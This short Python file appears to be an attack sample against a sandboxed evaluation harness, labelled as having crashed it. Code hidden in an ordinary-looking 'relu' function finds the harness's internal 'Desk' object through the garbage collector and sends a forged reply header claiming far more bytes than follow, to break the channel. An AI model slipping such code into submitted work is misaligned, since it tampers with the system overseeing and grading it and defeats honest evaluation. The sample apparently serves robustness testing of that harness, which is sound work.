# Attack: announce a reply of more bytes than there are
# Outcome: crashed
import gc
import struct

desk = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Desk")


def relu(x):
    desk.send(struct.pack(">4sIQ", b"cnt1", 100, 2**62) + b"x" * 1000)
    return x
